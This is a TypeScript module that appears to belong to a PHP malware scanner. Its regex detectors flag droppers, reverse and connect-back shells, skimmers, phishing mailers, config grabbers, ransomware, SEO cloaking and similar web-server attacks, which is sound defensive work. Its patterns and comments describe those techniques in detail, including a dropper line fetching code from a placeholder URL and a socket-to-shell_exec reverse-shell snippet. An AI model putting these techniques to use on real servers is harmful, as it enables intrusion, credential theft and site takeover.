/**
 * Malicious server components that are not interactive shells: droppers, flooders, database
 * dumpers, skimmers and phishing mailers, config grabbers and symlink attacks, writable-folder
 * scanners, restriction bypasses, connect-back helpers, site takeovers and SEO cloaking.
 * Each is suspicious on its own (5-8) and adds up with the flow findings of php.ts.
 */
import { callIndex, includesText, type AnalyzerContext } from '../../context.js';
import { Taint, matches } from '../../flow.js';
import { callArgs } from '../../text.js';
import { splitTopArgs } from './code.js';
import { NOT_BEFORE_CALLBACK, PHP_FLOW, callMatches } from './signatures.js';

/** Runs every hack-tool check; `hasRequest` gates the ones that need request input. */
export function analyzeHackTools(ctx: AnalyzerContext, taint: Taint, hasRequest: boolean): void {
  scriptDropper(ctx);
  hostAbuse(ctx);
  rogueAdmin(ctx, taint);
  iisMetabase(ctx);
  flooder(ctx);
  symlinkGrabber(ctx);
  restrictionBypass(ctx, taint);
  memoryBypass(ctx);
  connectBack(ctx);
  socketShell(ctx);
  databaseDumper(ctx);
  credentialTheft(ctx);
  siteTakeover(ctx);
  seoCloaking(ctx);
  installBeacon(ctx);
  defacement(ctx);
  if (hasRequest) writableDirScanner(ctx, taint);
  if (hasRequest) subnetSweep(ctx, taint);
}

/**
 * A script fetched from a URL or taken from an upload and stored under a fixed .php name:
 * a dropper planting another shell (`copy('http://x/s.txt', 'a.php')`).
 */
function scriptDropper(ctx: AnalyzerContext): void {
  const calls = callIndex(ctx);
  if (!calls.hasAnyOf(['copy', 'file_put_contents', 'move_uploaded_file'])) return;
  const { code, ev } = ctx;
  const phpName = /^\s*['"][^'"\n]{0,200}\.(?:php\d?|phtml|pht|asp|aspx|jsp)['"]\s*$/i;
  for (const c of callMatches(ctx, calls, ['copy', 'file_put_contents', 'move_uploaded_file'], NOT_BEFORE_CALLBACK)) {
    const parts = splitTopArgs(callArgs(code, c.open, 2000));
    const [a, b] = [parts[0] ?? '', parts[1] ?? ''];
    if (c.name === 'copy' && /^\s*['"](?:https?|ftp):\/\//i.test(a) && phpName.test(b)) {
      // a script of a few lines has no other purpose than planting the fetched one
      ev.add('capability', 'copies a script from a URL into a PHP file (dropper)', ctx.size < 1024 ? 10 : 8, c.index, c.open - c.index + 1);
      return;
    }
    if (c.name === 'file_put_contents' && phpName.test(a) && /\b(?:file_get_contents|curl_exec)\s*\(\s*['"](?:https?|ftp):\/\//i.test(b)) {
      ev.add('capability', 'writes a script downloaded from a URL into a PHP file (dropper)', 8, c.index, c.open - c.index + 1);
      return;
    }
    if (c.name === 'move_uploaded_file' && phpName.test(b)) {
      // the client's upload becomes a page the server runs: request content to code execution
      ev.add('capability', 'stores an uploaded file as a PHP script', 10, c.index, c.open - c.index + 1);
      return;
    }
  }
}

/** Small host-attack behaviours: fork bombs, reading the system account list. */
function hostAbuse(ctx: AnalyzerContext): void {
  const { code, ev } = ctx;
  const calls = callIndex(ctx);
  if (calls.has('pcntl_fork')) {
    const bomb = /\bwhile\s*\(\s*(?:1|true)\s*\)\s*\{?\s*@?pcntl_fork\s*\(\s*\)\s*;?\s*\}?/i.exec(code);
    // nothing a page serves needs processes without end: the host is the target
    if (bomb) ev.add('capability', 'forks in an endless loop (fork bomb)', 10, bomb.index, bomb[0].length);
  }
  if (calls.hasAnyOf(['file_get_contents', 'readfile', 'file', 'fopen', 'highlight_file', 'show_source']) && ctx.lower.includes('/etc/')) {
    const pw = /(?<![\w>$:])(?:file_get_contents|readfile|file|fopen|highlight_file|show_source)\s*\(\s*['"]\/etc\/(?:passwd|shadow)['"]/i.exec(code);
    if (pw) ev.add('capability', 'reads the system account list (/etc/passwd)', 5, pw.index, pw[0].length);
  }
}

/**
 * WordPress backdoor: an administrator account created from request parameters with no
 * capability or nonce check (the admin screens check both).
 */
function rogueAdmin(ctx: AnalyzerContext, taint: Taint): void {
  const calls = callIndex(ctx);
  if (!calls.hasAnyOf(['wp_create_user', 'wp_insert_user']) || !includesText(ctx.lower, 'administrator')) return;
  const { code, ev } = ctx;
  if (/\b(?:current_user_can|check_admin_referer|check_ajax_referer|wp_verify_nonce|is_super_admin)\s*\(/i.test(code)) return;
  for (const c of calls.sites(['wp_create_user', 'wp_insert_user'])) {
    if (!taint.touches(callArgs(code, c.open))) continue;
    const role = /set_role\s*\(\s*['"]administrator['"]|['"]role['"]\s*=>\s*['"]administrator['"]/i.exec(code);
    if (role) {
      ev.add('capability', 'creates an administrator account from request parameters without any permission check', 8, c.at, c.open - c.at + 1);
      return;
    }
  }
}

/** IIS metabase through COM: site list with anonymous-user passwords (credential harvesting). */
function iisMetabase(ctx: AnalyzerContext): void {
  if (!callIndex(ctx).has('com') || !includesText(ctx.lower, 'iis://')) return;
  const m = /\bnew\s+COM\s*\(\s*['"]IIS:\/\//i.exec(ctx.code);
  if (!m) return;
  // the stored passwords of the site accounts have no use in a page but handing them out
  if (/AnonymousUserPass|WAMUserPass/i.test(ctx.code))
    ctx.ev.add('capability', 'reads the IIS site-account passwords from the metabase through COM (credential harvesting)', 10, m.index, m[0].length);
  else ctx.ev.add('capability', 'reads the IIS metabase through COM (sites, anonymous-user passwords)', 5, m.index, m[0].length);
}

const BRACE_BODY_MAX = 20000;

function bodyFrom(code: string, open: number): string {
  let depth = 0;
  const end = Math.min(code.length, open + BRACE_BODY_MAX);
  for (let i = open; i < end; i++) {
    const c = code.charCodeAt(i);
    if (c === 123) depth++;
    else if (c === 125 && --depth === 0) return code.slice(open, i + 1);
  }
  return code.slice(open, end);
}

/**
 * A recursive directory walk from a request-chosen root that reports which folders are
 * writable: how an intruder looks for a place to drop the next file.
 */
function writableDirScanner(ctx: AnalyzerContext, taint: Taint): void {
  const calls = callIndex(ctx);
  if (ctx.size > 32768 || !calls.hasAnyOf(['is_writable', 'is_writeable']) || !calls.hasAnyOf(['opendir', 'scandir', 'readdir', 'glob'])) return;
  const { code, ev } = ctx;
  if (/\b(?:session_start|current_user_can|wp_verify_nonce|check_admin_referer)\s*\(|\$_SESSION\b/i.test(code)) return;
  for (const m of matches(/\bfunction\s+&?\s*(\w{1,60})\s*\([^)]{0,200}\)\s*\{/g, code, 200)) {
    const name = m[1]!.toLowerCase();
    const body = bodyFrom(code, m.index + m[0].length - 1).toLowerCase();
    if (!/\bis_write?able\s*\(/.test(body) || !/\b(?:opendir|scandir|readdir|glob)\s*\(/.test(body)) continue;
    if (!new RegExp(`(?<![\\w>:$])${name}\\s*\\(`).test(body)) continue; // recursive
    const rooted = calls.get(name).some((c) => (c.at < m.index || c.at >= m.index + m[0].length - 1 + body.length ? taint.touches(callArgs(code, c.open)) : false));
    if (rooted) {
      ev.add('capability', 'walks the file system from a request-chosen folder listing writable directories', 5, m.index, m[0].length);
      return;
    }
  }
}

/**
 * Packets sent to a host in an endless loop (UDP/TCP/HTTP flooders): a socket opened and
 * written inside `while (true)` / `for (;;)`, or UDP sockets opened in a loop.
 */
/**
 * `for ($i = 0; $i < 256; $i++) { fetch("http://" . $prefix . $i); }` with the prefix from the
 * request: the page sweeps a network segment the requester names (internal scanner / pivot).
 */
function subnetSweep(ctx: AnalyzerContext, taint: Taint): void {
  const { code, ev } = ctx;
  const calls = callIndex(ctx);
  if (!calls.hasAnyOf(['curl_exec', 'file_get_contents', 'fsockopen', 'get_headers', 'fopen'])) return;
  for (const m of matches(/\bfor\s*\(\s*\$(\w+)\s*=\s*[01]\s*;\s*\$\1\s*<=?\s*25[456]\s*;/g, code, 20)) {
    const body = code.slice(m.index + m[0].length, m.index + m[0].length + 400);
    const addr = new RegExp(`(?:['"](?:https?:\\/\\/)?['"]\\s*\\.\\s*)?(\\$\\w+)\\s*\\.\\s*\\$${m[1]!}\\b`).exec(body);
    if (addr && taint.touches(addr[1]!)) {
      ev.add('flow', 'fetches every address of a network segment the request names (internal network scanner)', 10, m.index, m[0].length);
      return;
    }
  }
}

function flooder(ctx: AnalyzerContext): void {
  const calls = callIndex(ctx);
  if (!calls.hasAnyOf(['fsockopen', 'pfsockopen', 'socket_create', 'stream_socket_client'])) return;
  const { code, ev } = ctx;
  for (const m of matches(/\b(?:while\s*\(\s*(?:true|1|time\s*\(\s*\)\s*<[^)]{1,40})\s*\)|for\s*\(\s*;\s*;\s*\))\s*\{/gi, code, 100)) {
    const body = bodyFrom(code, m.index + m[0].length - 1);
    const opens = /\b(?:fsockopen|pfsockopen|socket_create|stream_socket_client)\s*\(/i.test(body);
    const udp = /['"]udp:\/\//i.test(body) || /SOCK_DGRAM/.test(body);
    const writes = /\b(?:fwrite|fputs|socket_write|socket_sendto|socket_send)\s*\(/i.test(body);
    const reads = /\b(?:fread|fgets|socket_read|socket_recv|stream_get_contents|socket_accept)\s*\(/i.test(body);
    if (opens && writes && !reads && (udp || /\bsocket_connect\s*\(|\bfsockopen\s*\(/i.test(body))) {
      ev.add('capability', `opens sockets and sends data in an endless loop (${udp ? 'UDP ' : ''}flooder)`, 6, m.index, m[0].length);
      return;
    }
  }
}

/**
 * Cross-site theft on shared hosting: the server's root linked into the web folder, or other
 * users' CMS configuration files (database passwords) read from their home folders.
 */
function symlinkGrabber(ctx: AnalyzerContext): void {
  const calls = callIndex(ctx);
  const reads = calls.hasAnyOf(['symlink', 'copy', 'readfile', 'file_get_contents']);
  if (!reads && !calls.hasAnyOf(['system', 'exec', 'shell_exec', 'passthru'])) return;
  const { code, ev } = ctx;
  const root = !calls.has('symlink') && !ctx.lower.includes('ln -s') ? null : /\bsymlink\s*\(\s*['"]\/['"]|['"`]ln\s+-s\s+\/[\s'"]/i.exec(code);
  // no application links `/` anywhere: the whole file system, every site's configuration included, served over HTTP
  if (root) ev.add('capability', "links the server's root folder into the web folder (symlink attack)", 10, root.index, root[0].length);
  if (!reads || !ctx.lower.includes('/home/') || !/wp-config\.php|configuration\.php/i.test(code)) return;
  const home = /['"]\/home\/['"]\s*\.\s*\$\w+|['"]\/home\/\{?\$\w+/i.exec(code);
  if (home && calls.hasAnyOf(['symlink', 'copy', 'readfile', 'file_get_contents'])) {
    ev.add('capability', "reads other users' CMS configuration files from their home folders (config grabber)", 7, home.index, home[0].length);
  }
}

/**
 * A request-chosen file read through a stream wrapper (compress.zlib://, php://filter) to
 * slip past safe_mode/open_basedir checks, or safe_mode restored away by ini_restore().
 */
/**
 * The disable_functions bypasses that corrupt PHP's own memory: a use-after-free gives
 * read/write primitives over packed pointers, the PHP binary's function table is walked for
 * the native `system` handler, and a closure's handler is pointed at it. Reading pointers out
 * of strings and hunting `zif_system` has no use but calling a disabled function.
 */
function memoryBypass(ctx: AnalyzerContext): void {
  const { code, ev } = ctx;
  if (!includesText(ctx.lower, 'basic_func') || !includesText(ctx.lower, 'system')) return;
  const hunt = /\b(?:zif_system|get_system|basic_functions?)\b/i.exec(code);
  const pointers = /\b(?:str2ptr|ptr2str|leak|write)\s*\(/i.test(code) && /\bpack\s*\(\s*['"][QP]/i.test(code);
  if (hunt && pointers && /\bget_basic_funcs|basic_functions/i.test(code))
    ev.add('capability', 'corrupts PHP memory to call the native system handler (disable_functions bypass exploit)', 10, hunt.index, hunt[0].length);
}

function restrictionBypass(ctx: AnalyzerContext, taint: Taint): void {
  const { code, lower, ev } = ctx;
  const calls = callIndex(ctx);
  const reads = calls.hasAnyOf(['copy', 'file_get_contents', 'fopen', 'readfile', 'file', 'highlight_file', 'show_source', 'include', 'require', 'include_once', 'require_once']);
  // whether the file takes uploads matters only once a bypass is found: searched for then
  const uploads = (): boolean => lower.includes('$_files');
  if (reads && (includesText(lower, 'compress.zlib://') || includesText(lower, 'php://filter'))) {
    for (const m of matches(
      /(?<![\w>$:])(?:copy|file_get_contents|fopen|readfile|file|include|require|highlight_file|show_source)(?:_once)?\s*\(\s*(['"](?:compress\.zlib|php:\/\/filter[^'"]{0,80}resource=)[^'"]{0,20}['"]\s*\.\s*[^,;)]{1,80})/gi,
      code,
      50,
    )) {
      if (taint.touches(m[1]!)) {
        // a client-named path wrapped to dodge the file checks is the exploit itself; an uploaded
        // archive read through compress.zlib:// is how import tools unpack it
        ev.add('flow', 'reads a request-chosen file through a stream wrapper (safe_mode / open_basedir bypass)', uploads() ? 7 : 10, m.index, m[0].length);
        break;
      }
    }
  }
  if (calls.has('curl_setopt') && lower.includes('file:')) {
    const m = /CURLOPT_URL\s*,\s*(['"]file:[^'"]{0,20}['"]\s*\.\s*[^;)]{1,80})/i.exec(code);
    if (m && taint.touches(m[1]!))
      ev.add('flow', "reads a request-chosen local file through curl's file: scheme (safe_mode / open_basedir bypass)", uploads() ? 7 : 10, m.index, m[0].length);
  }
  if (calls.has('ini_restore')) {
    const r = /\bini_restore\s*\(\s*['"](?:safe_mode|open_basedir|safe_mode_exec_dir|disable_functions)['"]/i.exec(code);
    if (r) ev.add('capability', 'restores safe_mode/open_basedir defaults to escape host restrictions', 5, r.index, r[0].length);
  }
}

/** A command aimed back at the requesting client's address and port (connect-back shell). */
function connectBack(ctx: AnalyzerContext): void {
  const { code, ev } = ctx;
  const calls = callIndex(ctx);
  if (!calls.hasAnyOf(['system', 'exec', 'passthru', 'shell_exec', 'popen', 'proc_open', 'fsockopen']) || !includesText(code, 'REMOTE_PORT')) return;
  for (const c of calls.sites(['system', 'exec', 'passthru', 'shell_exec', 'popen', 'proc_open', 'fsockopen'])) {
    const args = callArgs(code, c.open);
    if (/REMOTE_ADDR/.test(args) && /REMOTE_PORT/.test(args)) {
      ev.add('flow', "connects a shell back to the requesting client's address and port", 8, c.at, c.open - c.at + 1);
      return;
    }
  }
}

/**
 * A stand-alone database dumper: lists every table, selects everything from each, and saves
 * the dump as a .sql file next to the script or streams it as a download, with no login or
 * session around it. Backup features of applications run inside their admin framework.
 */
function databaseDumper(ctx: AnalyzerContext): void {
  const { code, lower, ev } = ctx;
  if (ctx.size > 32768 || !includesText(lower, 'show tables')) return;
  const calls = callIndex(ctx);
  if (!calls.hasAnyOf(['mysql_query', 'mysqli_query', 'query', 'pg_query', 'mysql_db_query'])) return;
  if (/\b(?:session_start|current_user_can|wp_verify_nonce|check_admin_referer|is_admin)\s*\(|\$_SESSION\b|\bclass\s+\w+/i.test(code)) return;
  const all = /select\s+\*\s+from\s+[`'"]?\s*(?:\$\w+|["']\s*\.\s*\$\w+)/i.exec(code);
  if (!all) return;
  const saves = /\b(?:fopen|file_put_contents)\s*\([^;]{0,120}\.sql\b|content-disposition[^;]{0,80}\.sql|\.sql['"]/i.test(code);
  if (saves) ev.add('capability', 'dumps every table of a database to a .sql file or download with no login around it (database dumper)', 5, all.index, all[0].length);
}

/** Where payment code reads the card number and the card security code (CVV/CID). */
const CARD_NUMBER = /->getCcNumber\s*\(|\[\s*['"]cc_number['"]\s*\]/i;
const CARD_CODE = /->getCcCid\s*\(|\[\s*['"](?:cc_cid|cvv2?|cvc)['"]\s*\]/i;

/**
 * A mail() whose arguments carry both the card number and its security code, through the
 * variables the message is built in. Payment modules hand both to a gateway and keep the
 * security code nowhere (card rules forbid storing or sending it); mailing the pair is theft.
 */
function cardDataMailed(ctx: AnalyzerContext): boolean {
  const { code } = ctx;
  const num = new Taint(code, { ...PHP_FLOW, source: CARD_NUMBER });
  const cid = new Taint(code, { ...PHP_FLOW, source: CARD_CODE });
  for (const m of callMatches(ctx, callIndex(ctx), ['mail'], NOT_BEFORE_CALLBACK)) {
    const args = callArgs(code, m.open, 4000);
    if ((num.hasSource(args) || num.touches(args)) && (cid.hasSource(args) || cid.touches(args))) return true;
  }
  return false;
}

/**
 * Skimmers: whole request/cookie arrays serialized into a file (worse when the file poses as
 * an image), and form handlers that mail posted passwords or card numbers (phishing kits).
 */
function credentialTheft(ctx: AnalyzerContext): void {
  const calls = callIndex(ctx);
  const { code, ev } = ctx;
  if (calls.hasAnyOf(['file_put_contents', 'fwrite', 'fputs', 'error_log'])) {
    for (const c of calls.sites(['file_put_contents', 'fwrite', 'fputs', 'error_log'])) {
      const parts = splitTopArgs(callArgs(code, c.open, 2000));
      const data = c.name === 'error_log' ? (parts[0] ?? '') : (parts[1] ?? '');
      const whole = /\b(?:serialize|json_encode|print_r|var_export|implode)\s*\(\s*\$_(?:REQUEST|POST|COOKIE|GET)\s*[,)]/i;
      if (!whole.test(data)) continue;
      const dest = c.name === 'error_log' ? (parts[2] ?? '') : (parts[0] ?? '');
      const image = /\.(?:jpe?g|png|gif|ico|bmp|css|js)['"]/i.test(dest);
      const cookies = /\$_COOKIE/.test(data) && /\$_(?:POST|REQUEST)/.test(data);
      if (image || cookies) {
        ev.add(
          'flow',
          image ? 'records whole request data into a file posing as an image or asset (skimmer)' : 'records all posted fields and cookies into a file (credential skimmer)',
          image ? 8 : 5,
          c.at,
          c.open - c.at + 1,
        );
        break;
      }
    }
  }
  const direct = callMatches(ctx, calls, ['mail'], NOT_BEFORE_CALLBACK)[0];
  if (direct && /getCcCid|cc_cid|\bcvv2?\b/i.test(code) && /getCcNumber|cc_number|card_?number/i.test(code) && cardDataMailed(ctx)) {
    ev.add('flow', 'mails the card number together with its security code (card skimmer)', 10, direct.index, 5);
  } else if (direct && /getCcCid|cc_cid|\bcvv2?\b/i.test(code) && /getCcNumber|cc_number|card_?number/i.test(code)) {
    // payment modules hand card data to a gateway; a plain mail() next to the card number
    // and its security code sends them somewhere else
    ev.add('flow', 'mails payment card numbers and security codes (card skimmer)', 8, direct.index, 5);
  }
  if (calls.has('mail') && /\$_(?:POST|REQUEST|GET)/.test(code)) {
    const labels = code.match(
      /['"][^'"\n]{0,40}\b(?:passw(?:or)?d|card\s*number|cvv2?|cvc|csc|atm\s*pin|pin\s*code|expir(?:y|ation)\s*date|ssn|social\s*security)\b[^'"\n]{0,20}['"]\s*\.\s*\$_(?:POST|REQUEST|GET)\b/gi,
    );
    if (labels && labels.length >= 2) {
      const at = calls.get('mail')[0]!;
      ev.add('flow', 'mails posted passwords or card details to a fixed address (phishing kit)', 8, at.at, 5);
    }
  }
}

/**
 * Site takeover through the server's own files: .htaccess rewritten to route every page (or
 * 404s) to a script or to run other file types as PHP, and files rewritten in place with
 * encrypted copies of themselves while walking folders (ransomware).
 */
function siteTakeover(ctx: AnalyzerContext): void {
  const calls = callIndex(ctx);
  if (!calls.hasAnyOf(['file_put_contents', 'fwrite', 'fputs'])) return;
  const { code, lower, ev } = ctx;
  if (includesText(lower, '.htaccess')) {
    const ht =
      /(?:DirectoryIndex\s+[^\s'"]{0,80}\.php|ErrorDocument\s+40[34]\s+[^\s'"]{0,80}\.php|AddType\s+application\/x-httpd-php[^'"\n]{0,40}\.(?:jpe?g|png|gif|txt|ico|html?)|(?:AddHandler|SetHandler)\s+(?:application\/)?x-httpd-php[^'"\n]{0,40}\.(?:jpe?g|png|gif|txt|ico))/i.exec(
        code,
      );
    if (ht && /\.htaccess['"]/i.test(code)) ev.add('capability', '.htaccess rewritten to send pages to a script or run other file types as PHP', 6, ht.index, ht[0].length);
    // CGI switched on for a folder, and the script written there hands the query string to a shell
    const cgi = /AddHandler\s+cgi-script|Options\s+\+ExecCGI/i.exec(code);
    if (cgi && /\.htaccess['"]/i.test(code)) {
      const shell = /#!\s*\/(?:usr\/)?bin\/(?:env\s+)?(?:ba|da|z)?sh\b[^\n]*\n[\s\S]{0,600}?\$\{?QUERY_STRING/.test(ctx.text);
      if (shell)
        ev.add('capability', 'writes an .htaccess enabling CGI and a CGI script that runs the query string as a shell command (CGI shell dropper)', 10, cgi.index, cgi[0].length);
      else ev.add('capability', '.htaccess written to run CGI scripts in a web folder', 5, cgi.index, cgi[0].length);
    }
  }
  if (calls.hasAnyOf(['openssl_encrypt', 'mcrypt_encrypt']) && calls.hasAnyOf(['scandir', 'opendir', 'glob', 'readdir']) && calls.has('file_get_contents')) {
    for (const c of calls.get('file_put_contents')) {
      const dest = splitTopArgs(callArgs(code, c.open))[0]?.trim() ?? '';
      if (!/^\$\w+$/.test(dest)) continue;
      if (new RegExp(`file_get_contents\\s*\\(\\s*\\${dest}\\s*\\)`).test(code)) {
        ev.add('capability', 'rewrites files in place with encrypted copies while walking folders (ransomware)', 7, c.at, c.open - c.at + 1);
        return;
      }
    }
  }
}

/**
 * Search-engine cloaking: the user agent is checked for crawler names and pages are fetched
 * from a remote server keyed by this site's host or path (doorway/SEO-spam injectors).
 */
function seoCloaking(ctx: AnalyzerContext): void {
  const { code, lower, ev } = ctx;
  // the call look-up first: it costs nothing next to a search of the text
  if (ctx.size > 65536 || !callIndex(ctx).hasAnyOf(['curl_init', 'file_get_contents', 'fopen', 'fsockopen'])) return;
  if (!includesText(lower, 'http_user_agent') || !/googlebot|baiduspider|bingbot|sogou|360spider|yandexbot/.test(lower)) return;
  const bot = /HTTP_USER_AGENT['"]\s*\][^;]{0,80}(?:googlebot|baiduspider|bingbot|sogou|360spider|yandexbot)/i.exec(code);
  const remote = /['"]https?:\/\/[^'"\s]{4,120}['"]\s*\.\s*(?:\$\w+|\$_SERVER\s*\[\s*['"](?:HTTP_HOST|REQUEST_URI|QUERY_STRING|SERVER_NAME))/i.exec(code);
  if (bot && remote) ev.add('capability', 'shows search-engine crawlers pages fetched from a remote server (SEO cloaking / doorway)', 5, bot.index, bot[0].length);
}

/** `$_SERVER` keys that tell an outsider where a script is installed and how to reach it. */
const LOCATION_KEYS = /\$_SERVER\s*\[\s*['"](DOCUMENT_ROOT|SCRIPT_FILENAME|PATH_TRANSLATED|SERVER_ADDR|HTTP_HOST|SERVER_NAME|PHP_SELF|REQUEST_URI|SCRIPT_NAME)['"]\s*\]/g;
/** Mailboxes anyone can open: a site's own notifications go to its own domain. */
const FREE_MAIL =
  /[\w.+-]{2,64}@(?:gmail|googlemail|yahoo|ymail|hotmail|outlook|live|msn|aol|mail|inbox|yandex|rambler|bk|list|qq|163|126|sina|protonmail|proton|gmx|tutanota|zoho|icloud)\.[a-z.]{2,6}\b/i;

/**
 * The install beacon trojaned shells carry: on first run, mail() this server's paths and host
 * name to the author's free-mail box, so the author learns of every copy someone uploads.
 */
function installBeacon(ctx: AnalyzerContext): void {
  const calls = callIndex(ctx);
  if (!calls.has('mail') || ctx.size > 262144) return;
  const { code, ev } = ctx;
  const mailbox = FREE_MAIL.exec(code);
  if (!mailbox) return;
  const keys = new Set<string>();
  for (const m of matches(LOCATION_KEYS, code, 40)) keys.add(m[1]!.toUpperCase());
  // a site and a path on it: enough to find the script again
  const host = keys.has('HTTP_HOST') || keys.has('SERVER_NAME') || keys.has('SERVER_ADDR');
  const where = ['DOCUMENT_ROOT', 'SCRIPT_FILENAME', 'PATH_TRANSLATED', 'PHP_SELF', 'REQUEST_URI', 'SCRIPT_NAME'].filter((k) => keys.has(k));
  if (!host || where.length === 0) return;
  for (const c of callMatches(ctx, calls, ['mail'], NOT_BEFORE_CALLBACK)) {
    const args = splitTopArgs(callArgs(code, c.open, 2000));
    const to = args[0] ?? '';
    const direct = FREE_MAIL.test(to);
    const viaVar = /^\s*\$\w+\s*$/.test(to) && new RegExp(`\\${to.trim()}\\s*=\\s*['"][^'"\\n]*${mailbox[0].replace(/[.+]/g, '\\$&')}`).test(code);
    if (direct || viaVar) {
      ev.add('flow', `mails this server's host name and script location to a free-mail address (${mailbox[0]}): install beacon`, 6, c.index, c.open - c.index + 1);
      return;
    }
  }
}

/** Signatures defacers leave in the page they put in place of the site's own. */
const DEFACE_TEXT = /\b(?:hacked|owned|defaced|pwned)\s+by\b/i;

/** Overwriting the site's front page with a defacer's message. */
function defacement(ctx: AnalyzerContext): void {
  const calls = callIndex(ctx);
  if (!calls.hasAnyOf(['fopen', 'file_put_contents']) || ctx.size > 65536 || !DEFACE_TEXT.test(ctx.code)) return;
  const { code, ev } = ctx;
  const front = /^\s*['"](?:[^'"\n]*\/)?(?:index|default|home)\.(?:php\d?|html?|asp|aspx|jsp)['"]/i;
  for (const c of callMatches(ctx, calls, ['fopen', 'file_put_contents'], NOT_BEFORE_CALLBACK)) {
    const args = splitTopArgs(callArgs(code, c.open, 2000));
    if (!front.test(args[0] ?? '')) continue;
    if (c.name === 'fopen' && !/['"][wa]/i.test(args[1] ?? '')) continue;
    ev.add('capability', 'overwrites the site\'s front page with a "hacked by" message (defacement)', 6, c.index, c.open - c.index + 1);
    return;
  }
}

const CMD_RUNNERS = ['system', 'exec', 'passthru', 'shell_exec', 'popen', 'proc_open'];

/**
 * A reverse or bind shell: the text read from a network socket is run as a command and the
 * output written back (`$c = fgets($sock); fputs($sock, shell_exec($c));`). The socket's
 * handle names the reads; the read value, or the read itself, must reach a command runner.
 */
function socketShell(ctx: AnalyzerContext): void {
  const calls = callIndex(ctx);
  if (!calls.hasAnyOf(CMD_RUNNERS) || !calls.hasAnyOf(['fsockopen', 'pfsockopen', 'stream_socket_client', 'stream_socket_accept', 'socket_create', 'socket_accept'])) return;
  const { code, ev } = ctx;
  const handles = new Set<string>();
  for (const m of matches(/(\$\w{1,40})\s*=\s*@?\s*(?:fsockopen|pfsockopen|stream_socket_client|stream_socket_accept|socket_create|socket_accept)\s*\(/gi, code, 20))
    handles.add(m[1]!);
  if (handles.size === 0) return;
  const h = [...handles].map((x) => '\\' + x).join('|');
  const read = `(?:fgets|fread|stream_get_line|socket_read)\\s*\\(\\s*(?:${h})\\b`;
  const readVars = new Set<string>();
  for (const m of matches(new RegExp(`(\\$\\w{1,40})\\s*=[^;\\n]{0,40}${read}`, 'gi'), code, 20)) readVars.add(m[1]!);
  const readRe = new RegExp(read, 'i');
  for (const c of callMatches(ctx, calls, CMD_RUNNERS, NOT_BEFORE_CALLBACK)) {
    const args = callArgs(code, c.open);
    if (readRe.test(args) || [...readVars].some((v) => new RegExp(`\\${v}\\b`).test(args))) {
      ev.add('flow', 'runs commands read from a network socket (reverse or bind shell)', 10, c.index, c.open - c.index + 1);
      return;
    }
  }
}
